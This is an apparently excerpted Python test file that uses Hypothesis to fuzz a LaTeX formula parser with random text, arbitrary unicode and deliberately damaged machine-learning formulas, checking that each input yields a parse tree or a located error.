@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=60).map(lambda pieces: "".join(pieces)[:200]))
def test_any_text_ends_in_a_tree_or_in_a_located_error(text):
    run(text)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_any_unicode_ends_in_a_tree_or_in_a_located_error(text):
    run(text)


GOOD = [
    r"\frac{1}{m} \sum_{i=1}^m (x_i - \mu)^2", r"\hat{m}^t = \frac{m^t}{1 - \beta_1^t}",
    r"\frac{\partial l}{\partial \hat{x}_i} = \frac{\partial l}{\partial y_i} \cdot \gamma",
    r"\text{softmax}(z)_i = \frac{e^{z_i}}{\sum_{j=1}^n e^{z_j}}",
    r"\theta \leftarrow \theta - \alpha \nabla_\theta J(\theta)",
    r"\mathbb{E}_{x \sim p}[f(x)] = \int p(x) f(x) \, dx",
    r"\|W x + b\|_2^2 \le \left| \log p(y \mid x; \theta) \right|",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(GOOD), st.data())
def test_a_formula_that_was_damaged_is_read_or_refused(text, data):
    """A character lost, doubled, changed, or the formula cut short: what people and scanners do."""
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(0, max(len(text) - 1, 0)))
        how = data.draw(st.sampled_from(["lose", "double", "change", "cut", "swap"]))
        match how:
            case "lose":
                text = text[:at] + text[at + 1 :]
            case "double":
                text = text[:at] + text[at : at + 1] + text[at:]
            case "change":
                text = text[:at] + data.draw(st.sampled_from(PIECES)) + text[at + 1 :]
            case "cut":
                text = text[:at]
            case "swap":
                text = text[:at] + text[at : at + 2][::-1] + text[at + 2 :]
    run(text)


def test_no_text_of_the_table_is_here_twice():
    seen: dict[str, str] = {}
    for name, text in TEXTS.items():
        if re.fullmatch(r".* \* 4000|.*, (as long as may be|never closed|200)", name):
            continue
        assert text not in seen, f"{name} is {seen[text]}"
        seen[text] = name
